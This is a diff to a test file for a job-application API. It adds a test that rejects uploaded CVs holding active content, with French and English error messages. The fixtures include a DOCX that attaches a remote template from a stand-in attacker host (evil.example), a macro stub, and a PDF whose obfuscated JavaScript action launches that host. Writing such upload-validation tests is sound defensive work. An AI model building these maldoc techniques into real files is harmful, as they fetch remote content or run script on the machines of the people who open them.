@@ -5,7 +5,15 @@ import type { PublicSettings } from '#contract/schemas/settings.ts';
 import { jobApplications, mailOutbox } from '../../db/schema.ts';
 import { type Part, multipart } from '../../test-support/media-uploads.ts';
 import { body, createTestApp, type TestContext } from '../../test-support/test-app.ts';
-import { docxFile, executableFile, pdfFile, zipFile } from './test-cv-files.ts';
+import {
+  docxFile,
+  executableFile,
+  pdfFile,
+  pdfObjectStream,
+  relationshipType,
+  relationships,
+  zipFile,
+} from './test-cv-files.ts';
 import { insertJob } from './test-jobs.ts';
 
 let ctx: TestContext;
@@ -122,6 +130,42 @@ describe('POST /api/careers/{slug}/applications', () => {
     expect(body(english).errors?.cv).toEqual(['Unsupported format: send your CV as a PDF or DOCX file (5 MB max.).']);
     const otherZip = zipFile({ '[Content_Types].xml': '<Types/>', 'xl/workbook.xml': '<w/>' });
     expect((await apply('api-open', [...textParts(email), cvPart(otherZip, 'cv.docx')])).statusCode).toBe(415);
+    expect(await storedFor(email)).toEqual([]);
+    expect(await mailsTo(email, 'job-application-acknowledgement')).toEqual([]);
+  });
+
+  it('refuses a CV that runs code or fetches content when opened, with a 415 that says why', async () => {
+    const email = 'active@example.com';
+    const remoteTemplate = docxFile({
+      'word/_rels/settings.xml.rels': relationships(
+        `<Relationship Id="rId1" Type="${relationshipType('attachedTemplate')}" Target="https://evil.example/t.dotm" TargetMode="External"/>`,
+      ),
+    });
+    const refused = [
+      {
+        cv: cvPart(docxFile({ 'word/vbaProject.bin': 'VBA' }), 'cv.docx'),
+        fr: 'Votre CV contient des macros ou des contrôles ActiveX, qui exécutent du code à l’ouverture : enregistrez-le en document Word sans macros (.docx) ou en PDF, puis renvoyez-le.',
+        en: 'Your CV contains macros or ActiveX controls, which run code when it is opened: save it as a Word document without macros (.docx) or as a PDF, then send it again.',
+      },
+      {
+        cv: cvPart(remoteTemplate, 'cv.docx'),
+        fr: 'Votre CV charge un contenu extérieur à son ouverture (un modèle, une image ou un objet liés à distance) : enregistrez-le en PDF, puis renvoyez-le.',
+        en: 'Your CV loads outside content when it is opened (a remote template, picture or object): save it as a PDF, then send it again.',
+      },
+      {
+        cv: cvPart(pdfFile('CV', [pdfObjectStream('<</S/J#61vaScript/JS(app.launchURL("https://evil.example"))>>')])),
+        fr: 'Votre PDF contient du JavaScript, une action qui lance un programme ou un fichier joint : exportez à nouveau votre CV en PDF simple, puis renvoyez-le.',
+        en: 'Your PDF contains JavaScript, an action that launches a program or an attached file: export your CV again as a plain PDF, then send it again.',
+      },
+    ];
+    for (const { cv, fr, en } of refused) {
+      const french = await apply('api-open', [...textParts(email), cv]);
+      expect(french.statusCode).toBe(415);
+      expect(body(french)).toMatchObject({ success: false, message: fr, errors: { cv: [fr] } });
+      const english = await apply('api-open', [...textParts(email), cv], { lang: 'en' });
+      expect(english.statusCode).toBe(415);
+      expect(body(english)).toMatchObject({ success: false, message: en, errors: { cv: [en] } });
+    }
     expect(await storedFor(email)).toEqual([]);
     expect(await mailsTo(email, 'job-application-acknowledgement')).toEqual([]);
   });
